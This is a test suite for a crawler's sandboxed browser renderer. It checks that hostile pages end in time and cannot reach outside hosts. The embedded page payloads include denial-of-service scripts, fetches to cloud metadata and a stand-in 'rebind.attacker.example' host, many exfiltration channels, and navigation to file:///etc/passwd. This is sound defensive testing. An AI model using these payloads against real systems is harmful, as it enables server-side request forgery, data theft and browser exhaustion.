import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { createSocket, type Socket } from 'node:dgram';
import { crawlTopic } from '../../src/app/crawl/crawl-topic.js';
import { readEvents } from '../../src/crawling/store/result-folder.js';
import type { PageRenderer, RenderedPage } from '../../src/extensions/rendering/page-renderer.js';
import { createPageRenderer } from '../../src/extensions/rendering/browser-renderer.js';
import { silentLogger } from '../../src/support/logger.js';
import { collected } from '../support/collected.js';
import { listen, type Listening } from '../support/listen.js';
import { temporaryFolder } from '../support/temporary-folder.js';
import { BROWSER, whyNoBrowser } from './browser.js';
import { describeUnless } from './data.js';
import { type HttpFetcher, createHttpFetcher } from '../../src/web/http/http-fetcher.js';

const LIMITS = { seconds: 8, requests: 20, bytes: 1_000_000, memory: 300 };
/** Seconds after which a page has to be over, whatever it does: its time, its end, and the start of a browser. */
const OVER = 30;
const FINE = `<p id=p></p><script>p.textContent = 'made by a script'</script>`;
const isRoot = process.getuid?.() === 0;

/**
 * Pages that take all they can get, and what becomes of them. A page that floods the browser may be stopped before it can be
 * looked at.
 */
const GREEDY: readonly (readonly [name: string, html: string, end: RegExp])[] = [
  [
    'endless timers',
    `<p id=p></p><script>setInterval(() => { p.textContent = Math.random(); }, 0)</script>`,
    /<p id="p">0\.|in time/,
  ],
  ['a loop at once', `<p>x</p><script>for (;;);</script>`, /<p>x|in time/],
  [
    'a loop in a worker',
    `${FINE}<script>new Worker(URL.createObjectURL(new Blob(['for (;;);'])))</script>`,
    /made by a script/,
  ],
  [
    '2 GB in buffers',
    `<script>const all = []; setInterval(() => all.push(new Uint8Array(5e7).fill(1)), 5)</script>`,
    /more memory than allowed/,
  ],
  [
    '2 GB in objects',
    `<script>const all = []; for (;;) all.push(new Array(1000).fill(Math.random()))</script>`,
    /more memory|in time|died/,
  ],
  [
    'requests without end',
    `${FINE}<script>setInterval(() => fetch('/' + Math.random()).catch(() => 0), 1)</script>`,
    /made by a script|in time/,
  ],
  [
    'frames without end, in frames without end',
    `${FINE}<script>setInterval(() => { const f = document.createElement('iframe'); f.src = '/frame?' + Math.random(); document.body.append(f); }, 20)</script>`,
    /made by a script[\s\S]*in a frame|in time|memory/,
  ],
  [
    'dialogs',
    `<p id=p></p><script>for (let n = 0; n < 50; n++) { alert(n); confirm(n); prompt(n); print(); } p.textContent = 'made by a script'; onbeforeunload = () => 'stay'</script>`,
    /made by a script/,
  ],
  [
    'downloads',
    `${FINE}<a id=d href='data:application/octet-stream,x' download>d</a><script>d.click(); location = '/file.zip'</script>`,
    /made by a script/,
  ],
];

/** The ways in which an element `link` makes a browser ask. */
const LINKS =
  'stylesheet preload prefetch preconnect dns-prefetch modulepreload prerender icon manifest'.split(' ');

const out = temporaryFolder();

describeUnless(whyNoBrowser(), 'hostile pages in the browser', () => {
  /** Nobody may come here. */
  let canary: Listening;
  let udp: Socket;
  let site: Listening;
  let fetcher: HttpFetcher;
  let renderer: PageRenderer;
  const visitors: string[] = [];
  const asked: string[] = [];

  beforeAll(async () => {
    canary = await listen((request, response) => {
      visitors.push(`${request.method ?? ''} ${request.url ?? ''}`);
      response.setHeader('access-control-allow-origin', '*');
      response.end('secret');
    });
    udp = createSocket('udp4').on('message', () => visitors.push('UDP'));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    site = await listen(({ url = '' }, response) => {
      const [, to] = /^\/to\/(.*)$/.exec(url) ?? [];
      if (url.startsWith('/frame?'))
        response
          .writeHead(200, { 'content-type': 'text/html' })
          .end(`<p>in a frame<iframe src='${url}1'></iframe>`);
      else if (to === undefined) response.end('{}');
      else response.writeHead(302, { location: decodeURIComponent(to) }).end();
    });
    fetcher = createHttpFetcher({
      userAgent: 'sfwc',
      connectTo: [{ host: 'site.example', to: { address: '127.0.0.1', port: site.port } }],
      // What a name server of the attacker says, however often it is asked.
      resolve: (_, __, callback) => callback(null, [{ address: '127.0.0.1', family: 4 }]),
    });
    renderer = createPageRenderer({
      ...{ program: BROWSER ?? '', sandbox: !isRoot, limits: LIMITS },
      ...{ userAgent: 'sfwc', logger: silentLogger },
    });
  });

  afterAll(async () => {
    await renderer.close();
    fetcher.close();
    udp.close();
    await Promise.all([canary.close(), site.close()]);
  });

  function render(html: string): Promise<RenderedPage> {
    return renderer.render({
      response: {
        ...{ url: 'http://site.example/page', status: 200 },
        ...{ headers: { 'content-type': 'text/html' }, body: Buffer.from(html) },
      },
      ask: (url, maxBytes, signal) => {
        asked.push(url);
        return fetcher.fetch(url, { maxBytes, signal });
      },
      signal: new AbortController().signal,
    });
  }

  it.each(GREEDY)(
    '%s end in time, and the next page is rendered',
    async (_, html, end) => {
      asked.length = 0;
      const begin = performance.now();
      const told = await render(html).then(
        ({ body }) => body.toString(),
        (thrown: unknown) => String(thrown),
      );
      expect((performance.now() - begin) / 1000).toBeLessThan(OVER);
      expect(told).toMatch(end);
      expect(told.length).toBeLessThan(1_100_000);
      expect(asked.length).toBeLessThanOrEqual(LIMITS.requests);
      const { body } = await render(FINE);
      expect(body.toString()).toContain('made by a script');
    },
    90_000,
  );

  it('gets nowhere by any way out of a page', async () => {
    const tcp = `127.0.0.1:${canary.port}`;
    const there = `http://${tcp}`;
    const to = (url: string): string => `/to/${encodeURIComponent(url)}`;
    const elements = [
      ...['img', 'iframe', 'embed', 'audio', 'video', 'script'].map(
        (name) => `<${name} src='${there}/${name}'></${name}>`,
      ),
      ...LINKS.map((rel) => `<link rel='${rel}' as=script href='${there}/${rel}'>`),
      `<iframe src='${to(there)}'></iframe><iframe src='http://other.example/'></iframe>`,
      `<object data='${there}/object'></object><form id=f method=post action='${there}/form' target=_blank></form>`,
      `<script type=speculationrules>{"prefetch": [{"urls": ["${there}/speculation"]}]}</script>`,
    ];
    const script = `
      const there = '${there}';
      const tries = [
        () => fetch(there + '/fetch', { mode: 'no-cors' }), () => fetch(there + '/post', { method: 'POST', body: 'x', keepalive: true }),
        () => fetch('${to(there)}'), () => fetch('${to('http://169.254.169.254/latest/meta-data/')}'), () => fetch('http://169.254.169.254/latest/'),
        () => fetch('http://[::1]:${canary.port}/'), () => fetch('http://rebind.attacker.example:${canary.port}/'), () => fetch('http://localhost:${canary.port}/'),
        () => navigator.sendBeacon(there + '/beacon', 'x'), () => new WebSocket('ws://${tcp}/socket'), () => new EventSource(there + '/events'),
        () => new Worker(URL.createObjectURL(new Blob(["fetch('" + there + "/worker'); new WebSocket('ws://${tcp}/w'); importScripts('" + there + "/import')"]))),
        () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + there + "/shared')"]))), () => navigator.serviceWorker.register('/worker.js'),
        () => window.open(there + '/open'), () => { f.submit() }, () => new Image().src = there + '/image', () => import(there + '/module'),
        () => new WebTransport('https://${tcp}/'), () => { const frame = document.createElement('iframe'); document.body.append(frame);
          const made = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] });
          made.createDataChannel('x'); made.createOffer().then((offer) => made.setLocalDescription(offer)); },
        () => { location = '${to(there)}' }, () => { location = there + '/location' }, () => { location = 'file:///etc/passwd' },
      ];
      for (const each of tries) try { Promise.resolve(each()).then((a) => a && a.text && a.text()).then((t) => { if (t) got.textContent += t }).catch(() => 0) } catch { }`;
    const { body } = await render(
      `<body>${FINE}<p id=got></p>${elements.join('')}<script>${script}</script>`,
    );
    expect(body.toString()).toContain('made by a script');
    expect(body.toString()).not.toMatch(/secret|root:x:0/);
    expect(visitors).toEqual([]);
  }, 60_000);

  it('keeps nothing from one page to the next', async () => {
    const page = `<p id=p></p><script>p.textContent = document.cookie + localStorage.length; document.cookie = 'a=b'; localStorage.x = 1</script>`;
    await render(page);
    expect((await render(page)).body.toString()).toContain('<p id="p">0</p>');
  }, 60_000);

  it('hold up no other page of a crawl', async () => {
    const shell = `<div id=root></div><script>for (;;);</script>`;
    const hosts = [1, 2, 3].map((number) => `http://bad${number}.example/`);
    const plain = Array.from({ length: 40 }, (_, at) => `http://good.example/${at}`);
    const links = [...hosts, ...plain].map((url) => `<a href=${url}>${url}</a>`).join('');
    const server = await listen(({ headers }, response) => {
      response.setHeader('content-type', 'text/html');
      const isBad = headers.host?.startsWith('bad') === true;
      response.end(isBad ? shell : headers.host === 'seed.example' ? links : '<p>A plain page.');
    });
    await crawlTopic({
      ...{ seeds: ['http://seed.example/'], connectTo: [`*=127.0.0.1:${server.port}`], out, delay: 0 },
      ...{ keepDuplicates: true, concurrency: 2 },
    });
    await server.close();
    const events = await collected(readEvents(out));
    const late = events.slice(-3).map(({ url, reading }) => [url, reading?.from]);
    expect(late.sort()).toEqual(hosts.map((url) => [url, 'html']));
    expect(events.length).toBeGreaterThan(20);
  }, 120_000);
});
